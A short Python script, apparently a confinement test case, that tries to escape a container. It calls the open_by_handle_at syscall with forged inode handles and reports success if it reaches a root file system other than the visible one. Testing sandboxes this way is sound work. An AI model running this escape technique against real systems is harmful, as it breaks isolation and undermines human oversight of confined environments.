"""Opens the root of the file system behind a folder that it sees, by the number of its inode."""

# stops = full, confined

import ctypes
import os
import platform

_libc = ctypes.CDLL(None)
_number = 304 if platform.machine() == "x86_64" else 265
for _inode in (2, 128):
    _handle = ctypes.create_string_buffer(
        (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + _inode.to_bytes(8, "little")
    )
    for _folder in ("/usr", os.path.dirname(os.__file__)):
        _place = os.open(_folder, os.O_RDONLY)
        _found = _libc.syscall(_number, _place, _handle, os.O_RDONLY)
        if _found >= 0 and os.listdir(_found) != os.listdir("/"):
            succeed()
